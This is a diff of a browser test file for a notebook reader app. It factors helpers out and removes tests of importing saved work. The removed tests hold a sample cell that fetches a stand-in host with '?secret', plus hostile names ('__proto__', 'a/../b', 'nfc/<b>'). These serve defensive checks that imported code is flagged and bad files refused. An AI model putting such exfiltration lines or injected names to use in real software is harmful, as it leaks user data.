@@ -2,18 +2,13 @@
 
 from __future__ import annotations
 
-import http.server
-import json
-import threading
 from collections.abc import Callable, Iterator
-from contextlib import contextmanager
-from pathlib import Path
 from typing import Any
 
 import nbformat
 import pytest
-from live_pages import Opened, chromium, served
-from marionette import firefox
+from live_pages import served
+from two_browsers import elsewhere, in_chromium, in_firefox
 
 from voicewire import paths
 
@@ -82,46 +77,10 @@ pytestmark = [
 ]
 
 
-@contextmanager
-def elsewhere() -> Iterator[tuple[str, list[str]]]:
-    """Serve nothing under another origin, and list what was asked of it."""
-    asked: list[str] = []
-
-    class Host(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            asked.append(self.path)
-            self.send_error(404)
-
-        do_POST = do_GET  # noqa: N815
-
-        def log_message(self, format: str, *args: Any) -> None:
-            pass
-
-    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Host) as server:
-        threading.Thread(target=server.serve_forever, daemon=True).start()
-        yield f"http://127.0.0.1:{server.server_port}", asked
-        server.shutdown()
-
-
-@contextmanager
-def in_chromium(address: str) -> Iterator[Callable[..., Any]]:
-    with chromium() as browser:
-        page = browser.new_page()
-        page.goto(address, wait_until="load")
-        yield lambda body, given=None: page.evaluate(f"async (given) => {{ {body} }}", given)
-
-
-@contextmanager
-def in_firefox(address: str) -> Iterator[Callable[..., Any]]:
-    with firefox() as window:
-        window.go(address)
-        yield lambda body, given=None: window.script(f"return (async (given) => {{ {body} }})(arguments[0])", given)
-
-
 @pytest.fixture(scope="module", params=[in_chromium, pytest.param(in_firefox, marks=pytest.mark.needs("firefox"))])
 def page(request: Any) -> Iterator[Callable[..., Any]]:
-    with served() as server, request.param(f"{server.address}notebooks/{NAME}.html") as run:
-        yield run
+    with served() as server, request.param(f"{server.address}notebooks/{NAME}.html") as window:
+        yield window.run
 
 
 def test_no_element_attribute_or_class_fetches_covers_or_runs(page: Callable[..., Any]) -> None:
@@ -190,59 +149,3 @@ def test_the_books_own_outputs_lose_nothing(page: Callable[..., Any]) -> None:
         after["elements"] = {name: number for name, number in after["elements"].items() if number}
         assert after["elements"] == before["elements"]
         assert [name for name in after["classes"] if name not in ("output", "text_html")] == before["classes"]
-
-
-IMPORTED = "import js\njs.fetch('https://elsewhere.example/?secret')"
-
-
-def _file(cell: str, **more: Any) -> str:
-    text = {cell: {"source": IMPORTED, "of": "x"}}
-    other = {"text": {"a": {"source": "1", "of": ""}}, "done": {}}
-    chapters = {NAME: {"text": text, "done": {}}, "echo/01_adaptive_filters": other}
-    return json.dumps({"format": "voicewire-reader-1", "chapters": chapters | more})
-
-
-def _imports(opened: Opened, path: Path) -> None:
-    opened.page.locator(".vw-work").evaluate("fold => { fold.open = true }")
-    with opened.page.expect_file_chooser() as asked:
-        opened.page.get_by_role("button", name="Import a file").click()
-    asked.value.set_files(path)
-
-
-def test_an_imported_text_is_shown_and_taken_only_by_a_click_and_marked_until_edited(tmp_path: Path) -> None:
-    with served() as server, chromium() as browser:
-        opened = Opened(browser.new_context(), server.address, NAME)
-        opened.click()
-        number = next(cell["number"] for cell in opened.cells if cell["runs"])
-        cell = opened.cells[number - 1]["id"]
-        file = tmp_path / "work.json"
-        file.write_text(_file(cell), encoding="utf-8")
-        for choice in ("Leave them", "Take them"):
-            _imports(opened, file)
-            asked = opened.page.get_by_role("group", name="What the file would bring")
-            asked.wait_for()
-            assert IMPORTED in asked.inner_text() and "echo/01_adaptive_filters, cell a" in asked.inner_text()
-            assert opened.page.evaluate("Object.keys(localStorage).filter(key => key.startsWith('voicewire:'))") == []
-            opened.page.get_by_role("button", name=choice).click()
-            assert asked.is_hidden()
-        assert opened.kept()["text"][cell]["imported"] is True
-        opened.reload()
-        opened.click()
-        mark = opened.cell(number).locator(".vw-imported")
-        mark.wait_for()
-        assert mark.inner_text() == "From a file: read it before you run it."
-        opened.write(number, "1")
-        assert mark.count() == 0 and "imported" not in opened.kept()["text"][cell]
-
-
-@pytest.mark.parametrize("name", ["__proto__", "a/../b", "nfc/01 slow", "", "nfc/<b>"])
-def test_a_file_with_names_that_are_none_is_refused(name: str, tmp_path: Path) -> None:
-    with served() as server, chromium() as browser:
-        opened = Opened(browser.new_context(), server.address, NAME)
-        opened.click()
-        file = tmp_path / "work.json"
-        for text in (_file("a", **{name: {"text": {}, "done": {}}}), _file(name)):
-            file.write_text(text, encoding="utf-8")
-            _imports(opened, file)
-            opened.page.get_by_text("This file is damaged: nothing was taken from it.").wait_for()
-            assert opened.kept() == {"text": {}, "done": {}}
